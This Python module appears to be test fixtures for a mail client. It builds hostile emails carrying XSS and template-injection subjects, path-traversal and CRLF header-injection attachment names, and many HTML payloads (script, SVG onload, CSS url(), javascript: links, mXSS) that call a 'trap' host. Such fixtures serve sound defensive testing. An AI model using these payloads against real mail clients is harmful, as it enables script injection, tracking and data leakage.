"""Mail that is made to act on who looks at it: in its subject and addresses, in its HTML, in the names of its files."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from datetime import timedelta
from email.header import Header
from typing import Final
from urllib.parse import quote

from testbed.office import OWN, STUDIO, WHEN

__all__ = [
    "FILES",
    "PIXEL",
    "SUBJECTS",
    "hostile_html",
    "hostile_subjects",
    "letter",
    "sealed",
    "with_hostile_names",
]

PIXEL: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

LOGO: Final = (
    b"Content-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(PIXEL)
)
"""A picture that a message brings along, as `letter` takes it; its address is ``cid:logo@x``."""

SUBJECTS: Final = {
    "script": "<script>document.title='owned'</script><img src=x onerror=document.title='owned'>",
    "attribute": "\" autofocus onfocus=document.title='owned' x=\"",
    "template": "{{ 7*7 }}{% raw %} ${7*7}",
    "override": "fattura_\u202egnp.exe\u202c e \u2066isolato\u2069 \u200f",
    "long": "x" * 10_000,
    "terminal": "allarme \x1b[31mrosso\x1b[0m \x07 \x9b31m",
    "entity": "&lt;b&gt; &#x3c;script&#x3e; \ufeff",
}
"""Subjects by what they try."""

# Name as written in the header, the name that the file gets.
FILES: Final = {
    'filename="index.html"': "index.html",
    r'filename="..\\..\\autoexec.bat"': "__.._autoexec.bat",
    'filename="../../etc/passwd"': "__._etc_passwd",
    'filename="con"': "_con",
    "filename*=utf-8''a%0D%0ASet-Cookie%3A%20owned%3D1%0D%0A.txt": "a__Set-Cookie_ owned=1__.txt",
    "filename*=utf-8''gnp%E2%80%AEexe.pdf": "gnp_exe.pdf",
    'filename="immagine.svg"': "immagine.svg",
    f'filename="{"n" * 400}.pdf"': "n" * 116 + ".pdf",
    'filename=""': "attachment.bin",
}
"""Parameters of Content-Disposition, and what the file is called when it is saved."""


def letter(subject: str, html: str, sender: str = "mallory@posta.example.it", *parts: bytes) -> bytes:
    """Return a message of HTML with further parts (MIME entities); its subject may be anything."""
    body = base64.encodebytes(html.encode("utf-8", "replace")).replace(b"\n", b"\r\n")
    encoded = Header(subject, "utf-8", maxlinelen=75).encode().replace("\n", "\r\n")
    head = f"From: {sender}\r\nTo: {STUDIO}\r\nSubject: {encoded}\r\nMessage-ID: <{hash_of(subject, html)}@evil.example>\r\n"
    page = b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
    boundary = b"=_limit_" + hash_of(subject, html).encode()
    whole = (
        b"".join(b"--" + boundary + b"\r\n" + one + b"\r\n" for one in (page, *parts))
        + b"--"
        + boundary
        + b"--\r\n"
    )
    kind = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="' + boundary + b'"\r\n\r\n'
    return head.encode() + kind + whole


def hash_of(*texts: str) -> str:
    import hashlib

    return hashlib.sha256("\0".join(texts).encode("utf-8", "replace")).hexdigest()[:24]


def sealed(original: bytes, day: int = 0) -> bytes:
    """Return it in the envelope of a provider."""
    return OWN.envelope(OWN.accept(original, WHEN + timedelta(days=day)))


def hostile_subjects() -> dict[str, bytes]:
    """Return a sealed message for each of `SUBJECTS`, by its name, from a sender whose name tries the same."""
    return {
        name: sealed(
            letter(subject, f"<p>testo {name}</p>", f'"{_quoted(subject[:200])}" <mallory@posta.example.it>'),
            day,
        )
        for day, (name, subject) in enumerate(SUBJECTS.items())
    }


def _quoted(text: str) -> str:
    return (
        "".join(one for one in text if one.isprintable() and ord(one) < 128)
        .replace("\\", "")
        .replace('"', '\\"')
    )


def hostile_html(trap: str) -> dict[str, str]:
    """Return HTML by what it tries; all of it would ask something of an address, or run a script that does.

    Args:
        trap: ``http://host:port``.
    """
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(`{trap}/svg-data`)'><image href='{trap}/svg-in-data'/></svg>"
    return {
        "script": f"<script src='{trap}/script.js'></script><script>fetch('{trap}/inline')</script><p>testo</p>",
        "handler": f"<p onclick=\"fetch('{trap}/click')\" onmouseover=\"fetch('{trap}/over')\">testo</p>"
        f"<img src=x onerror=\"fetch('{trap}/error')\"><body onload=\"fetch('{trap}/load')\">",
        "image": f"<img src='{trap}/image.png'><img srcset='{trap}/set.png 2x'><picture><source srcset='{trap}/source.png'></picture>"
        f"<input type=image src='{trap}/input.png'><video poster='{trap}/poster.png' src='{trap}/v.mp4'></video>"
        f"<audio src='{trap}/a.mp3' autoplay></audio><table background='{trap}/table.png'><tr><td background='{trap}/td.png'>x",
        "style": f"<style>@import url({trap}/import.css); @font-face{{font-family:x;src:url({trap}/font.woff)}}"
        f" body{{background:url({trap}/body.png);font-family:x}} a[href^='h']{{background:url({trap}/attribute)}}"
        f" input[value^='a']{{background:url({trap}/value)}}</style><a href='http://a'>testo</a><input value=abc>",
        "inline-style": f'<p style="background-image:url({trap}/p.png)">a</p><p style="background:u\\72l({trap}/escaped)">b</p>'
        f'<p style="list-style:url(\'{trap}/list\');cursor:url({trap}/cursor),auto">c</p><p style="behavior:url({trap}/htc);'
        f"-moz-binding:url({trap}/xbl);width:expression(fetch('{trap}/x'))\">d</p>"
        '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">e</p>',
        "sheet": f"<link rel=stylesheet href='{trap}/sheet.css'><link rel=prefetch href='{trap}/prefetch'>"
        f"<link rel=dns-prefetch href='{trap}'><link rel=preconnect href='{trap}'><link rel=icon href='{trap}/icon'><p>testo</p>",
        "form": f"<form action='{trap}/form' method=post><input name=a value=b autofocus onfocus=\"fetch('{trap}/focus')\">"
        f"<button formaction='{trap}/button'>Continua</button></form><isindex action='{trap}/isindex'>",
        "frame": f"<iframe src='{trap}/frame'></iframe><iframe srcdoc=\"<script>fetch('{trap}/srcdoc')</script>\"></iframe>"
        f"<object data='{trap}/object'></object><embed src='{trap}/embed'><frameset><frame src='{trap}/frameset'></frameset>",
        "refresh": f"<meta http-equiv=refresh content='0; url={trap}/refresh'><meta http-equiv=Content-Security-Policy"
        f" content=\"default-src *\"><base href='{trap}/base/' target=_top><img src='relative.png'><a href='relative'>qui</a>",
        "svg": f"<svg onload=\"fetch('{trap}/svg')\"><script>fetch('{trap}/svg-script')</script><image href='{trap}/svg-image'/>"
        f"<use href='{trap}/use.svg#x'/><a xlink:href='javascript:fetch(`{trap}/svg-link`)'><text>x</text></a>"
        f"<foreignObject><iframe src='{trap}/foreign'></iframe></foreignObject><animate onbegin=\"fetch('{trap}/begin')\"></svg>"
        f'<img src="data:image/svg+xml,{quote(svg)}"><img src="data:image/svg+xml;base64,{_base64(svg)}">',
        "address": f"<a href=\"javascript:fetch('{trap}/javascript')\">a</a><a href=\"java\nscript:fetch('{trap}/broken')\">b</a>"
        f"<a href=\"&#106;avascript:fetch('{trap}/entity')\">c</a><a href=\"data:text/html,<script>fetch('{trap}/data')</script>\">d</a>"
        f"<a href='blob:{trap}/blob'>e</a><img src='blob:{trap}/blob.png'><a href='vbscript:x'>f</a><img src=\"data:text/html,x\">",
        "link": f"<a href='{trap}/top' target=_top>La tua banca</a> <a href='{trap}/blank' target=_blank>https://banca.example</a>"
        f" <a href='{trap}/self' ping='{trap}/ping'>qui</a> <map name=m><area href='{trap}/area' coords=0,0,99,99></map>",
        "confused": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={trap}/mxss'
        f' onerror=fetch(`{trap}/mxss-run`)&gt;">'
        f'<noscript><p title="</noscript><img src={trap}/noscript onerror=1>"><textarea></textarea><img src={trap}/textarea>'
        f"<xmp><img src={trap}/xmp></xmp><template><img src={trap}/template></template>"
        f'<svg></p><style><a id="</style><img src={trap}/foreign-style onerror=1>">',
        "deep": "<div>" * 100_000 + f"<img src='{trap}/deep.png'>fondo",
        "tangled": f"<a href='{trap}/t'><b><font color=red><p>" * 20_000 + "fondo",
        "wide": "<table>" + "<tr>" + "<td>cella</td>" * 50_000 + "</table>",
    }


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def with_hostile_names(media_type: str = "text/html") -> bytes:
    """Return a sealed message with a file for each of `FILES`, which is an HTML page that acts."""
    content = base64.encodebytes(b"<script>document.title='owned'</script>").replace(b"\n", b"\r\n")
    parts: Sequence[bytes] = [
        f"Content-Type: {media_type}\r\nContent-Disposition: attachment; {parameter}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n".encode()
        + content
        for parameter in FILES
    ]
    return sealed(letter("Nomi di file", "<p>in allegato</p>", "mallory@posta.example.it", *parts), 20)
